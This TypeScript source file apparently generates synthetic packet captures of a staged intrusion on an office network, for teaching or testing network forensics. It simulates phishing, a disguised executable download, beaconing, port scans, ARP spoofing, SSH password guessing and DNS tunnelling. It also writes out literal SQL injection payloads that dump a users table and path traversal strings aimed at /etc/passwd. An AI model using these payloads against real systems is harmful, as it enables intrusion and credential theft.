/** What happens to Clara's machine: a mail, a program, and what the program does. */
import type { Packet } from '../../tests/support/packet-builder.ts';
import { dnsAnswer, dnsQuery } from '../../tests/support/packets/dns.ts';
import { smtpExchanges } from '../../tests/support/packets/dialogue.ts';
import { httpRequest, httpResponse } from '../../tests/support/packets/http.ts';
import { sshExchanges } from '../../tests/support/packets/ssh.ts';
import { TLS } from '../../tests/support/packets/tls.ts';
import { harmlessProgram } from './executable.ts';
import { HOSTS, SITES } from './hosts.ts';
import { commented, type Office } from './office.ts';
import { BROWSER } from './people.ts';

const { anna, clara, gateway, mail, intranet, storage, resolver } = HOSTS;
const { mailer, dropper, control } = SITES;

/** 3 min 20: "your invoice", with a link to an address instead of a name. */
export function phishingMail(office: Office): Packet[] {
  const message = [
    'From: Billing <billing@billing-desk.test>',
    'To: clara@office.example',
    'Subject: Overdue invoice 8841',
    'Date: Tue, 12 Mar 2024 09:33:18 +0100',
    'Message-ID: <8841.0312@billing-desk.test>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p>Dear customer,</p><p>your invoice 8841 is overdue. Please open it <b>today</b>:</p>',
    `<p><a href="http://${dropper.address}/docs/invoice_8841.exe">invoice_8841.pdf</a></p>`,
  ].join('\n');
  const exchanges = smtpExchanges({
    from: 'billing@billing-desk.test',
    to: 'clara@office.example',
    server: mail.name,
    client: mailer.name,
    message,
  });
  const outside = { ...mail, ...mailer, linkLocal: '', global: '' };
  const packets = office.session(outside, { ...mail, rtt: mailer.rtt }, 25, 198, exchanges);
  return commented(packets, 3, 'A mail for Clara: the link says .pdf and leads to an .exe on a bare address');
}

/** 4 min 22: she opens it. */
export function download(office: Office): Packet[] {
  const headers = { 'User-Agent': BROWSER, Accept: 'text/html,*/*;q=0.8', 'Accept-Language': 'en' };
  const packets = office.session(clara, dropper, 80, 262, [
    { from: 'client', data: httpRequest({ host: dropper.address, target: '/docs/invoice_8841.exe', headers }) },
    {
      from: 'server',
      wait: 0.02,
      fault: 'retransmitted',
      data: httpResponse({
        headers: { Server: 'Apache', 'Content-Type': 'application/octet-stream', 'Content-Disposition': 'attachment' },
        body: harmlessProgram(39000),
      }),
    },
  ]);
  return commented(packets, 5, 'The "invoice" begins with MZ: a Windows program. (In this sample it does nothing.)');
}

/** From 5 min on, every minute: always the same few bytes to the same place outside, with a certificate of its own making. */
export function beacon(office: Office): Packet[] {
  const beats: Packet[] = [];
  const certificates = [office.certificateOf(control.name, `CN=${control.name}`)];
  for (let beat = 0; beat < 20; beat++) {
    const at = 300 + beat * 60 + office.random.between(-1.5, 1.5);
    if (beat % 5 === 0) beats.push(...office.ask(clara, control.name, 'A', at - 0.2));
    const talk = [
      { from: 'client', size: 212 + office.random.whole(0, 3), wait: 0.004 },
      { from: 'server', size: 96, wait: 0.03 },
    ] as const;
    const client = { ciphers: [0xc02f, 0xc030, 0x009c, 0x009d], supportedVersions: [], groups: [23, 24] };
    const exchanges = office.tls(control, talk, { version: TLS.tls12, certificates, client });
    const session = office.session(clara, control, 443, at, exchanges);
    beats.push(
      ...(beat === 0 ? commented(session, 0, 'The first of twenty calls, one a minute, to the same address') : session),
    );
  }
  return beats;
}

/** 7 min: which ports does the file server have open? */
export function portScan(office: Office): Packet[] {
  const open = new Set([21, 80, 443, 445, 5000]);
  const ports = Array.from({ length: 220 }, (_, i) => i + 1).concat(
    443,
    445,
    993,
    1433,
    3306,
    3389,
    5000,
    5432,
    5900,
    8080,
  );
  const packets = ports.flatMap((port, i) => {
    const at = 420 + i * 0.031 + office.random.between(0, 0.02);
    if (!open.has(port)) return office.session(clara, storage, port, at, [], { answer: 'refuse' });
    return office.session(clara, storage, port, at, [], { close: 'rst' });
  });
  return commented(packets, 0, 'Clara’s machine tries 230 ports of the file server within seconds');
}

/** 9 min: who is here (ARP for the whole network), and who has SMB open in the network next door? */
export function sweep(office: Office): Packet[] {
  const present = new Map<string, string>(Object.values(HOSTS).map(({ address, mac }) => [address, mac]));
  const lines: string[] = [];
  for (let last = 1; last < 255; last++) {
    const target = `10.20.30.${last}`;
    if (target === clara.address) continue;
    lines.push(`arp who-has ${target} tell ${clara.address} pad @${(541 + last * 0.04).toFixed(6)}`);
    const mac = present.get(target);
    if (mac) lines.push(`arp ${target} is-at ${mac} to ${clara.address} pad @+0.0004`);
  }
  const next = Array.from({ length: 254 }, (_, i) => i + 1).flatMap((last) => {
    const target = { name: '', address: `10.20.40.${last}`, rtt: 0.0011 };
    const answer = last % 83 === 5 ? 'accept' : last % 47 === 9 ? 'refuse' : 'silence';
    const more = { answer, close: 'rst', retries: answer === 'silence' && last % 3 === 0 ? 1 : 0 } as const;
    return office.session(clara, target, 445, 560 + last * 0.19 + office.random.between(0, 0.05), [], more);
  });
  return [...office.packets(...lines), ...commented(next, 0, 'SMB (port 445) of every address in 10.20.40.0/24')];
}

/** 11 min 40, for a minute: "I am the gateway", says Clara's machine to Anna's, and "I am Anna" to the gateway. */
export function arpSpoofing(office: Office): Packet[] {
  const lines: string[] = [];
  for (let i = 0; i < 40; i++) {
    const at = 700 + i * 1.5;
    lines.push(`arp ${gateway.address} is-at ${clara.mac} to ${anna.address} targetMac=${anna.mac} @${at.toFixed(6)}`);
    lines.push(`arp ${anna.address} is-at ${clara.mac} to ${gateway.address} @+0.0003`);
    if (i % 13 !== 6) continue;
    lines.push(`arp who-has ${gateway.address} tell ${anna.address} pad @+0.4`);
    lines.push(`arp ${gateway.address} is-at ${gateway.mac} to ${anna.address} pad @+0.0005`);
  }
  for (const [owner, other] of [
    [gateway, anna],
    [anna, gateway],
  ] as const) {
    lines.push(`arp ${owner.address} is-at ${owner.mac} to ${other.address} eth=${clara.mac}>${other.mac} @+0.8`);
  }
  const spoofed = { [gateway.address]: clara.mac, [anna.address]: clara.mac };
  // What Anna sends outside goes through Clara's machine; this port of the switch sees only the first half of the way.
  const intercepted = office.believing({ ...spoofed, [anna.address]: anna.mac }, () => [
    ...office.browse(anna, SITES.shop, 716, 3, TLS.tls12),
    ...office.browse(anna, SITES.news, 739, 2),
  ]);
  return [
    ...commented(office.packets(...lines), 0, 'The gateway’s address is given a second MAC address: ARP spoofing'),
    ...intercepted,
  ];
}

/** 13 min: passwords for the intranet server, four seconds each. */
export function passwordGuessing(office: Office): Packet[] {
  return Array.from({ length: 44 }, (_, i) => {
    const seed = office.serial();
    const exchanges = sshExchanges({
      seed,
      failures: 3,
      accepted: false,
      penalty: 0.9,
      clientSoftware: 'libssh2_1.11.0',
    });
    const at = 790 + i * 5.6 + office.random.between(0, 0.6);
    const session = office.session(clara, intranet, 22, at, exchanges, { closer: i % 3 ? 'client' : 'server' });
    return i === 0 ? commented(session, 0, 'The first of 44 short SSH sessions, three wrong passwords each') : session;
  }).flat();
}

const INJECTIONS: readonly (readonly [value: string, status: number, body: string])[] = [
  ["1'", 500, "You have an error in your SQL syntax near ''1''' at line 1"],
  ["1' OR '1'='1", 200, '<tr><td>1</td><td>Paper A4</td></tr>'.repeat(60)],
  ["1' ORDER BY 5-- -", 500, "Unknown column '5' in 'order clause'"],
  ["-1' UNION SELECT 1,2,3,4-- -", 200, '<tr><td>1</td><td>2</td><td>3</td></tr>'],
  ["-1' UNION SELECT 1,table_name,3,4 FROM information_schema.tables-- -", 200, '<tr><td>1</td><td>users</td></tr>'],
  [
    "-1' UNION SELECT 1,login,password,4 FROM users-- -",
    200,
    '<tr><td>1</td><td>admin</td><td>$2y$10$N9qo8uLOickgx2ZMRZoMye</td></tr>',
  ],
  ["1' AND SLEEP(2)-- -", 200, '<tr></tr>'],
];

const TRAVERSALS: readonly (readonly [target: string, status: number, body: string])[] = [
  ['/download?file=../../../../etc/passwd', 404, 'No such file'],
  ['/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd', 404, 'No such file'],
  ['/static/..%5c..%5cwindows%5cwin.ini', 404, 'No such file'],
  [
    '/download?file=....//....//....//etc/passwd',
    200,
    'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n',
  ],
];

/** 18 min 10: the intranet's own pages are asked for more than they should tell. */
export function webAttack(office: Office): Packet[] {
  const headers = { 'User-Agent': 'python-requests/2.31.0', Accept: '*/*' };
  const all = [
    ...INJECTIONS.map(([value, status, body]) => [`/catalogue?id=${encodeURIComponent(value)}`, status, body] as const),
    ...TRAVERSALS,
  ];
  const sessions = all.map(([target, status, body], i) =>
    office.session(clara, intranet, 80, 1090 + i * 6.3, [
      { from: 'client', data: httpRequest({ host: intranet.name, target, headers }) },
      {
        from: 'server',
        wait: target.includes('SLEEP') ? 2.004 : 0.009,
        data: httpResponse({ status, headers: { Server: 'nginx', 'Content-Type': 'text/html' }, body }),
      },
    ]),
  );
  return commented(sessions.flat(), 3, 'A quote in a number: SQL injection against the intranet');
}

/** 19 min 30: data leaves in the names of DNS questions, and orders come back in TXT records. */
export function dnsTunnel(office: Office): Packet[] {
  const { random } = office;
  const packets = Array.from({ length: 130 }, (_, i) => {
    const name = `${random.hex(56)}.${random.hex(40)}.${i}.sync-cache.test`;
    const id = random.whole(1, 65535);
    const answer = `${name} 1 TXT "${random.hex(i % 9 === 0 ? 180 : 24)}"`;
    const payloads = [dnsQuery(`${name} TXT`, { id }), dnsAnswer(`${name} TXT`, [answer], { id })];
    return office.askResolver(clara, payloads, 1170 + i * 1.7 + random.between(0, 0.8));
  }).flat();
  return commented(packets, 0, `130 questions like this one, answered by ${resolver.name}, and no name comes twice`);
}
